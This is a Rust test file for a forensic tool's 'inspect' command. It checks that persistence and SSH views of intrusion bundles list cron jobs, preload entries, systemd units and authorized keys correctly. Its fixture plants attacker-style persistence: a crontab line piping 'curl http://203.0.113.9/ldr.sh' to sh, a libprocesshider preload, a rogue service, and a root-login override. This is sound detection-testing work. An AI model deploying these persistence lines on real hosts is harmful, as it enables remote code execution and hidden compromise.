//! `minetrace inspect` (issue 17): snapshots of every view of the shipped samples (text), every view's
//! `--json` read back as the documented type, and a dead-box tree with a crontab line, an authorized key,
//! a preload entry and a unit whose every entry the persistence and ssh views show, the key as
//! `ssh-keygen -l` prints it.

mod report_support;

use std::path::{Path, PathBuf};
use std::process::Command;

use minetrace_analyzer::analysis::Analysis;
use minetrace_analyzer::commands::analyze::inputs;
use minetrace_schemas::findings::Subject;
use minetrace_schemas::inspect::{InspectDocument, InspectView};

const VIEWS: &[&str] = &[
    "processes",
    "sockets",
    "executables",
    "persistence",
    "ssh",
    "firewall",
    "host",
];

fn sample(name: &str) -> PathBuf {
    report_support::workspace_root()
        .join("samples/bundles")
        .join(format!("{name}.tar.zst"))
}

fn samples() -> Vec<String> {
    let dir = report_support::workspace_root().join("samples/bundles");
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .expect("samples/bundles")
        .filter_map(|e| {
            let name = e.ok()?.file_name().into_string().ok()?;
            name.strip_suffix(".tar.zst").map(str::to_owned)
        })
        .collect();
    names.sort();
    assert!(!names.is_empty(), "no sample bundles in {}", dir.display());
    names
}

/// `minetrace inspect BUNDLE ARGS...`: stdout, which must be printable ASCII, and success.
fn inspect(bundle: &Path, args: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_minetrace"))
        .arg("inspect")
        .arg(bundle)
        .args(args)
        .output()
        .expect("run minetrace");
    assert!(
        out.status.success(),
        "minetrace inspect {} {args:?}: {}",
        bundle.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.stdout
            .iter()
            .all(|b| *b == b'\n' || (0x20..0x7f).contains(b)),
        "inspect {args:?} printed unescaped bytes"
    );
    String::from_utf8(out.stdout).expect("ASCII")
}

fn json(bundle: &Path, view: &str, extra: &[&str]) -> InspectDocument {
    let mut args = vec![view, "--json"];
    args.extend_from_slice(extra);
    let text = inspect(bundle, &args);
    let doc: InspectDocument = serde_json::from_str(&text)
        .unwrap_or_else(|e| panic!("inspect {view} --json is not an InspectDocument: {e}"));
    assert_eq!(doc.schema, minetrace_schemas::inspect::INSPECT_SCHEMA);
    let tag = serde_json::to_value(&doc.view).expect("view")["view"].clone();
    assert_eq!(tag, view, "inspect {view} --json names its view");
    doc
}

fn snapshot(name: &str, text: &str) {
    insta::with_settings!({ prepend_module_to_snapshot => true, omit_expression => true }, {
        insta::assert_snapshot!(name, text);
    });
}

#[test]
fn every_view_of_every_sample() {
    for s in samples() {
        let bundle = sample(&s);
        for view in VIEWS {
            snapshot(&format!("{s}__{view}"), &inspect(&bundle, &[view]));
            json(&bundle, view, &[]);
        }
    }
}

/// The views that list the whole host (every file record, every timeline event) are snapshotted for one
/// sample; the timeline within a window around the intrusion.
#[test]
fn files_and_timeline_of_one_sample() {
    let bundle = sample("kinsing-redis");
    snapshot("kinsing-redis__files", &inspect(&bundle, &["files"]));
    json(&bundle, "files", &[]);
    let all = json(&bundle, "timeline", &[]);
    let InspectView::Timeline { events, .. } = &all.view else {
        panic!("timeline view");
    };
    assert!(events.len() > 100, "{} events", events.len());
    // The last ten minutes before the collection ended: the intrusion, not the base image's files.
    let last = events.last().expect("events").time.clone();
    let end = time::OffsetDateTime::parse(&last, &time::format_description::well_known::Rfc3339)
        .expect("ISO time");
    let from = (end - time::Duration::minutes(10))
        .unix_timestamp()
        .to_string();
    let text = inspect(&bundle, &["timeline", "--from", &from]);
    snapshot("kinsing-redis__timeline_last_10_min", &text);
    let window = json(&bundle, "timeline", &["--from", &from]);
    let InspectView::Timeline {
        events: inside,
        filtered_out,
        from: shown_from,
        ..
    } = &window.view
    else {
        panic!("timeline view");
    };
    assert!(!inside.is_empty() && inside.len() < events.len());
    assert_eq!(inside.len() + filtered_out, events.len());
    assert!(shown_from.is_some());
    assert!(inside
        .iter()
        .all(|e| e.time >= shown_from.clone().unwrap_or_default()));
    // A range that ends before anything happened is empty, and says so.
    let none = inspect(&bundle, &["timeline", "--to", "1971-01-01"]);
    assert!(none.starts_with("0 events"), "{none}");
}

#[test]
fn a_bad_time_or_a_range_on_another_view_is_refused() {
    let bundle = sample("clean-baseline");
    for args in [
        &["timeline", "--from", "yesterday"][..],
        &["ssh", "--from", "2026-01-01"][..],
    ] {
        let out = Command::new(env!("CARGO_BIN_EXE_minetrace"))
            .arg("inspect")
            .arg(&bundle)
            .args(args)
            .output()
            .expect("run minetrace");
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("yesterday") || err.contains("--from and --to"),
            "{args:?}: {err}"
        );
    }
}

/// `persistence --suspicious` lists exactly the entries of the full view that a finding names as
/// `persistence PATH:LINE`, and exactly the files of the full view that hold such an entry or that a
/// finding names; the text shows the same rows. Every shipped sample is checked; the compromised ones
/// name some persistence (pwnrig names many) and the clean baseline none, which the text says.
#[test]
fn suspicious_persistence_lists_exactly_what_the_findings_name() {
    let mut named_on_compromised = 0;
    for s in samples() {
        let bundle = sample(&s);
        let analysis = Analysis::run(&bundle, &inputs(&[], None, false).expect("inputs"))
            .unwrap_or_else(|e| panic!("{s}: {e:#}"));
        let findings = &analysis.document.findings;
        let InspectView::Persistence {
            entries: all_entries,
            files: all_files,
        } = json(&bundle, "persistence", &[]).view
        else {
            panic!("persistence view");
        };
        let named_line = |path: &minetrace_schemas::RawBytes, line: u32| {
            let subject = Subject::Persistence {
                path: path.clone(),
                line,
            };
            findings.iter().any(|f| f.has_subject(&subject))
        };
        let named_file = |path: &minetrace_schemas::RawBytes| {
            findings
                .iter()
                .flat_map(|f| f.iter_subjects())
                .any(|sub| match sub {
                    Subject::Persistence { path: p, .. } | Subject::File { path: p, .. } => {
                        p == path
                    }
                    _ => false,
                })
        };
        let want_entries: Vec<_> = all_entries
            .iter()
            .filter(|e| named_line(&e.path, e.line))
            .cloned()
            .collect();
        let want_files: Vec<_> = all_files
            .iter()
            .filter(|f| named_file(&f.path))
            .cloned()
            .collect();

        let InspectView::Persistence { entries, files } =
            json(&bundle, "persistence", &["--suspicious"]).view
        else {
            panic!("persistence view");
        };
        assert_eq!(entries, want_entries, "{s}: entries");
        assert_eq!(files, want_files, "{s}: files");
        // Every line a finding names that the model reads as an entry is listed.
        for sub in findings.iter().flat_map(|f| f.iter_subjects()) {
            if let Subject::Persistence { path, line } = sub {
                let is_entry = all_entries
                    .iter()
                    .any(|e| e.path == *path && e.line == *line);
                let listed = entries.iter().any(|e| e.path == *path && e.line == *line);
                assert_eq!(is_entry, listed, "{s}: {}:{line}", path.escaped());
            }
        }

        let text = inspect(&bundle, &["persistence", "--suspicious"]);
        if entries.is_empty() && files.is_empty() {
            assert!(
                text.starts_with("no persistence entry or file is named by a finding"),
                "{s}: {text}"
            );
            assert_eq!(text.lines().count(), 1, "{s}: {text}");
        } else {
            let rows: Vec<&str> = text
                .lines()
                .skip(1)
                .take_while(|l| !l.contains(" entries in "))
                .collect();
            assert_eq!(rows.len(), entries.len(), "{s}: {text}");
            for (row, e) in rows.iter().zip(&entries) {
                let at = format!("{}:{}", e.path.escaped(), e.line);
                assert!(
                    row.starts_with(&e.kind) && row.contains(&at),
                    "{s}: {row} vs {at}"
                );
            }
            assert!(
                text.contains(&format!(
                    "{} entries in {} files",
                    entries.len(),
                    files.len()
                )),
                "{s}: {text}"
            );
        }
        let truth = std::fs::read_to_string(
            report_support::workspace_root()
                .join("samples/bundles")
                .join(format!("{s}.truth.json")),
        )
        .expect("truth");
        if truth.contains("\"verdict\": \"compromised\"") {
            named_on_compromised += entries.len();
        }
        if s == "clean-baseline" {
            assert!(entries.is_empty() && files.is_empty(), "{text}");
        }
        if s == "pwnrig-8220-immutable" {
            assert!(entries.len() >= 5, "pwnrig persists in many places: {text}");
        }
    }
    assert!(named_on_compromised > 0);

    // Another view refuses the flag.
    let out = Command::new(env!("CARGO_BIN_EXE_minetrace"))
        .arg("inspect")
        .arg(sample("clean-baseline"))
        .args(["ssh", "--suspicious"])
        .output()
        .expect("run minetrace");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--suspicious"));
}

fn write(root: &Path, path: &str, bytes: &[u8]) {
    let full = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(full.parent().expect("parent")).expect("mkdir");
    std::fs::write(full, bytes).expect("write");
}

#[test]
fn dead_box_entries_and_keys_are_shown_with_their_contents() {
    let root = tempfile::tempdir().expect("tempdir");
    let r = root.path();
    write(
        r,
        "/etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\nredis:x:107:112::/var/lib/redis:/usr/sbin/nologin\n",
    );
    write(r, "/etc/group", b"root:x:0:\nredis:x:112:\n");
    write(
        r,
        "/var/spool/cron/crontabs/redis",
        b"# m h dom mon dow command\n*/5 * * * * curl -fsSL http://203.0.113.9/ldr.sh | sh\n",
    );
    write(
        r,
        "/etc/ld.so.preload",
        b"/usr/local/lib/libprocesshider.so\n",
    );
    write(
        r,
        "/etc/systemd/system/sysupdate.service",
        b"[Unit]\nDescription=update\n\n[Service]\nUser=root\nExecStart=/var/tmp/.x/sysupdate -c /var/tmp/.x/config.json\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n",
    );
    // A real key from ssh-keygen, and what `ssh-keygen -l` says of it.
    let keys = tempfile::tempdir().expect("tempdir");
    let key = keys.path().join("id_rsa");
    let made = Command::new("ssh-keygen")
        .args([
            "-q", "-t", "rsa", "-b", "3072", "-N", "", "-C", "mdrfckr", "-f",
        ])
        .arg(&key)
        .status()
        .expect("ssh-keygen (apt-get install openssh-client)");
    assert!(made.success());
    let public = std::fs::read(key.with_extension("pub")).expect("pub");
    let listed = Command::new("ssh-keygen")
        .arg("-lf")
        .arg(key.with_extension("pub"))
        .output()
        .expect("ssh-keygen -l");
    let listed = String::from_utf8(listed.stdout).expect("ASCII");
    let listed = listed.trim();
    let mut authorized = b"no-pty,command=\"/bin/true\" ".to_vec();
    authorized.extend_from_slice(&public);
    write(r, "/root/.ssh/authorized_keys", &authorized);
    write(
        r,
        "/etc/ssh/sshd_config",
        b"Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\nPasswordAuthentication no\n",
    );
    write(
        r,
        "/etc/ssh/sshd_config.d/00-open.conf",
        b"PermitRootLogin yes\n",
    );
    write(r, "/root/.ssh/known_hosts", b"db-01,10.0.0.8 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEqO6XHD6uDOzvJxMYGyRRhe9dc+7gnXbY3YmRAKB7d2\n");

    let out = tempfile::tempdir().expect("tempdir");
    let bundle = out.path().join("box.tar.zst");
    report_support::collect_root(r, &bundle);

    let text = inspect(&bundle, &["persistence"]);
    for expected in [
        "cron         /var/spool/cron/crontabs/redis:2",
        "*/5 * * * *",
        "redis",
        "curl -fsSL http://203.0.113.9/ldr.sh | sh",
        "preload      /etc/ld.so.preload:1",
        "/usr/local/lib/libprocesshider.so",
        "systemd      /etc/systemd/system/sysupdate.service:6",
        "/var/tmp/.x/sysupdate -c /var/tmp/.x/config.json",
    ] {
        assert!(
            text.contains(expected),
            "persistence lacks {expected:?}:\n{text}"
        );
    }
    let doc = json(&bundle, "persistence", &[]);
    let InspectView::Persistence { entries, .. } = &doc.view else {
        panic!("persistence view");
    };
    let cron = entries
        .iter()
        .find(|e| e.path.as_bytes() == b"/var/spool/cron/crontabs/redis")
        .expect("the crontab line");
    assert_eq!(
        (cron.kind.as_str(), cron.line, cron.schedule.as_deref()),
        ("cron", 2, Some("*/5 * * * *"))
    );
    assert_eq!(
        cron.run_as.as_ref().map(|u| u.as_bytes()),
        Some(&b"redis"[..])
    );
    assert!(cron
        .urls
        .iter()
        .any(|u| u.as_bytes() == b"http://203.0.113.9/ldr.sh"));
    assert!(entries.iter().any(
        |e| e.kind == "preload" && e.command.as_bytes() == b"/usr/local/lib/libprocesshider.so"
    ));
    assert!(entries.iter().any(|e| e.kind == "systemd"
        && e.command.as_bytes() == b"/var/tmp/.x/sysupdate -c /var/tmp/.x/config.json"));

    // `3072 SHA256:... mdrfckr (RSA)`, exactly as ssh-keygen -l lists it.
    let text = inspect(&bundle, &["ssh"]);
    assert!(text.contains(listed), "ssh view lacks {listed:?}:\n{text}");
    assert!(
        text.contains("/root/.ssh/authorized_keys:1 [account root]"),
        "{text}"
    );
    assert!(
        text.contains("options: no-pty,command=\"/bin/true\""),
        "{text}"
    );
    assert!(
        text.contains("* permitrootlogin yes  (/etc/ssh/sshd_config.d/00-open.conf:1)"),
        "{text}"
    );
    assert!(
        text.contains("    permitrootlogin no  (/etc/ssh/sshd_config:2)"),
        "{text}"
    );
    assert!(
        text.contains("/root/.ssh/known_hosts:1  db-01,10.0.0.8 ssh-ed25519"),
        "{text}"
    );
    let doc = json(&bundle, "ssh", &[]);
    let InspectView::Ssh {
        keys,
        known_hosts,
        sshd,
        ..
    } = &doc.view
    else {
        panic!("ssh view");
    };
    let k = keys.first().expect("the key");
    let mut fields = listed.split_whitespace();
    assert_eq!(k.bits.map(|b| b.to_string()).as_deref(), fields.next());
    assert_eq!(Some(k.fingerprint.as_str()), fields.next());
    assert_eq!(k.comment.as_bytes(), b"mdrfckr");
    assert_eq!((k.algorithm.as_str(), k.line), ("RSA", 1));
    assert_eq!(known_hosts.len(), 1);
    assert!(sshd
        .iter()
        .any(|d| d.keyword == "permitrootlogin" && d.in_force && d.line == 1));
}
